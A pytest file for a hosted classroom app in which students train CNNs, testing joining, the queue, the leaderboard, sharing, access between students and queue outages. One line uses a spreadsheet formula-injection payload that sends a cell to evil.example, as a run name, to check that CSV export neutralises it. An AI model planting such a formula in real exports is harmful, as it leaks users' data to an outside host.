"""A class in hosted mode under AppTest: a teacher, three students training through the real queue, the
leaderboard, sharing, access between students, and a reload or second tab that keeps everything."""

from __future__ import annotations

import secrets
import time

import pytest

from core.classroom.classes import load_class
from core.jobs.queue import training_queue
from core.store.runs import list_runs
from tests.app.harness import open_app, rendered, rerun
from tests.robustness.conftest import assert_clean, assert_says
from ui import state
from ui.classroom import state as class_state
from ui.evaluate import state as evaluate_state
from ui.train import state as train_state
from ui.train.settings import setting_key

CLASS = "pages/classroom.py"


@pytest.fixture
def hosted(monkeypatch):
    monkeypatch.setenv("CNNLAB_HOSTED", "1")
    monkeypatch.setenv("CNNLAB_WORKERS", "2")


def key_of(app) -> str:
    return app.session_state[state.WORKSPACE_KEY]


def page_text(app) -> str:
    parts = [element.value for kind in ("markdown", "caption", "info", "success", "warning", "error")
             for element in app.get(kind)]
    return rendered(" ".join(str(part) for part in parts))


def test_a_new_workspace_says_once_that_its_link_is_the_only_key():
    app = open_app()  # the first run: Home, through the router
    notice = [info.value for info in app.sidebar.info if "private workspace" in info.value]
    assert notice and "losing it means losing access" in notice[0]
    assert len(key_of(app)) == 32 and [code.value for code in app.sidebar.code if key_of(app) in code.value]
    rerun(app)
    assert not [info for info in app.sidebar.info if "private workspace" in info.value]  # once
    again = open_app("pages/home.py", query={"ws": key_of(app)})  # its link, reopened: no notice either
    assert not [info for info in again.sidebar.info if "private workspace" in info.value]


def create_class_page(name: str):
    """A teacher's Class page that has just created a class named `name`: (the page, the class, its code)."""
    teacher = open_app(CLASS)
    teacher.text_input(key=class_state.CLASS_NAME).set_value(name)
    teacher.button(key=class_state.CREATE).click()
    rerun(teacher)
    room = load_class(teacher.session_state[class_state.TAUGHT])
    return teacher, room, f"{room.join_code[:4]}-{room.join_code[4:]}"


def join(code: str, nickname: str):
    app = open_app(CLASS, query={"join": code})
    assert app.text_input(key=class_state.JOIN_CODE).value == code.replace("-", "")  # the join link fills it in
    app.text_input(key=class_state.NICKNAME).set_value(nickname)
    app.button(key=class_state.JOIN).click()
    rerun(app)
    assert_says(app, "You joined")
    return app


def start_training(app, epochs: int, name: str = "") -> str:
    app.switch_page("pages/train.py")
    rerun(app)
    app.text_input(key=train_state.RUN_NAME).set_value(name)
    app.slider(key=setting_key("epochs")).set_value(epochs)
    rerun(app)
    app.button(key=train_state.START).click()
    rerun(app)
    return app.session_state[train_state.JOB_ID]


def wait_for_runs(job_ids: list[str], timeout: float = 400) -> list[str]:
    queue, deadline = training_queue(), time.monotonic() + timeout
    while any(queue.status(job_id).active for job_id in job_ids):
        assert time.monotonic() < deadline, "the class's runs did not finish in time"
        time.sleep(0.5)
    statuses = [queue.status(job_id) for job_id in job_ids]
    assert [status.state for status in statuses] == ["finished"] * 3, [status.message for status in statuses]
    return [status.run_id for status in statuses]


def test_a_class_trains_ranks_shares_and_keeps_its_work_across_reloads(hosted):
    teacher = open_app(CLASS)
    teacher.text_input(key=class_state.CLASS_NAME).set_value("Lesson 3 <b>CNNs</b>")
    teacher.button(key=class_state.CREATE).click()
    rerun(teacher)
    assert_says(teacher, "created")
    room = load_class(teacher.session_state[class_state.TAUGHT])
    assert "Lesson 3 <b>CNNs</b>" in page_text(teacher)  # the name as typed, shown as text
    code = f"{room.join_code[:4]}-{room.join_code[4:]}"
    assert code in [element.value for element in teacher.code]

    ada, bob, cy = (join(code, nickname) for nickname in ("Ada", "Bob", "Cy"))
    formula = '=HYPERLINK("http://evil.example/?leak="&B2,"Open results")'  # Bob's run name
    jobs = [start_training(student, epochs, name) for student, epochs, name in ((ada, 1, ""), (bob, 2, formula),
                                                                                  (cy, 3, ""))]

    # A reload (or a second tab, or another device) with Ada's private link shows her run live.
    second_tab = open_app("pages/train.py", query={"ws": key_of(ada)})
    assert second_tab.session_state[train_state.JOB_ID] == jobs[0]

    # The teacher's live view lists every student with their run's state.
    rerun(teacher)
    live = teacher.dataframe[0].value
    assert sorted(live["student"]) == ["Ada", "Bob", "Cy"]  # who needs the teacher first: queued before training
    assert set(live["state"]) <= {"queued", "training", "finished"}

    ada_run, bob_run, cy_run = wait_for_runs(jobs)
    after = open_app("pages/train.py", query={"ws": key_of(ada)})  # a reload after the end: her last run, ended
    assert after.session_state[train_state.JOB_ID] == jobs[0]
    assert any("finished after" in element.value for element in after.get("markdown") + after.get("success")), \
        [element.value for element in after.get("markdown")][:5]
    rerun(teacher)
    board = teacher.dataframe[1].value
    accuracy = {run.run_id: run.metrics["test"]["accuracy"] for run in list_runs()}
    expected = sorted([("Ada", ada_run), ("Bob", bob_run), ("Cy", cy_run)], key=lambda pair: -accuracy[pair[1]])
    assert len(board) == 3 and list(board["student"]) == [name for name, _ in expected]
    assert list(board["rank"]) == sorted(board["rank"])
    # The table toolbar's CSV download writes cells as they are: Bob's run name is no live formula in it.
    assert "'" + formula in list(board["run"]) and formula not in list(board["run"])

    # Ada sees her rank; nobody else's run is hers to open.
    ada_class = open_app(CLASS, query={"ws": key_of(ada)})  # a reload keeps her class
    assert "You are in this class as **Ada**" in page_text(ada_class)
    assert ada_class.metric[0].value.startswith("#")
    for link in (bob_run, cy_run):
        evaluate = open_app("pages/evaluate.py", query={"ws": key_of(ada), "run": link})
        assert_clean(evaluate)
        assert_says(evaluate, "There is no run")
        assert evaluate.session_state[evaluate_state.RUN] != link
    guessed = open_app("pages/evaluate.py", query={"ws": secrets.token_urlsafe(24), "run": bob_run})
    assert_says(guessed, "not known on this server")
    assert guessed.session_state[state.OWNER] not in room.members
    assert guessed.session_state.get(evaluate_state.RUN) != bob_run

    # The teacher opens Bob's run, then shares it: every student now sees it, and can open it.
    teacher.selectbox(key=class_state.PICKED_RUN).select(bob_run)
    rerun(teacher)
    teacher.button(key=class_state.SHARE).click()
    rerun(teacher)
    assert_says(teacher, "Shared with the class")
    rerun(ada_class)
    assert "Shared by your teacher" in page_text(ada_class)
    assert ada_class.button(key=class_state.open_shared_key(bob_run))  # it switches pages (AppTest stays; the
    evaluate = open_app("pages/evaluate.py", query={"ws": key_of(ada), "run": bob_run})  # browser test follows)
    assert_clean(evaluate)
    assert evaluate.session_state[evaluate_state.RUN] == bob_run
    # Cy's run stays unshared: still "no run" for Ada.
    evaluate = open_app("pages/evaluate.py", query={"ws": key_of(ada), "run": cy_run})
    assert_says(evaluate, "There is no run")

    # The teacher link, opened in a new tab, is the teacher's view again.
    again = open_app(CLASS, query={"ws": key_of(teacher)})
    assert len(again.dataframe) >= 2 and "Ada" in list(again.dataframe[1].value["student"])


def test_while_the_queue_cannot_be_reached_the_live_views_keep_the_last_state_seen_marked_stale(monkeypatch):
    # The scale-out queue's Redis goes away mid-lesson: the teacher's table and the student's live panel keep
    # what they last saw, say since when, and come back by themselves; nothing disappears.
    from core.jobs.jobs import QueueUnavailable
    from tests.unit.test_jobs import wait_for

    teacher, _room, code = create_class_page("Outage")
    ada = join(code, "Ada")
    job_id = start_training(ada, 1)
    wait_for(lambda: not training_queue().status(job_id).active, 300)
    rerun(ada)
    rerun(teacher)
    assert teacher.dataframe[0].value["state"].tolist() == ["finished"]

    queue = training_queue()

    def away(*_args, **_kwargs):
        raise QueueUnavailable("Training is unavailable: the job queue (Redis at redis://10.0.0.9:6379) cannot be "
                               "reached. Everything else works; try again in a while.")

    for name in ("status", "active", "events", "wait"):
        monkeypatch.setattr(queue, name, away)
    rerun(teacher)
    assert_clean(teacher)
    assert teacher.dataframe[0].value["state"].tolist() == ["finished (stale)"]
    assert_says(teacher, "cannot be reached right now", "(stale)")
    ada.session_state[train_state.JOB_ID] = job_id
    rerun(ada)
    assert_clean(ada)
    assert_says(ada, "cannot be reached right now", "as it was at")
    assert any(job_id in success.value or "finished" in success.value for success in ada.success)
    monkeypatch.undo()
    rerun(teacher)
    assert teacher.dataframe[0].value["state"].tolist() == ["finished"]
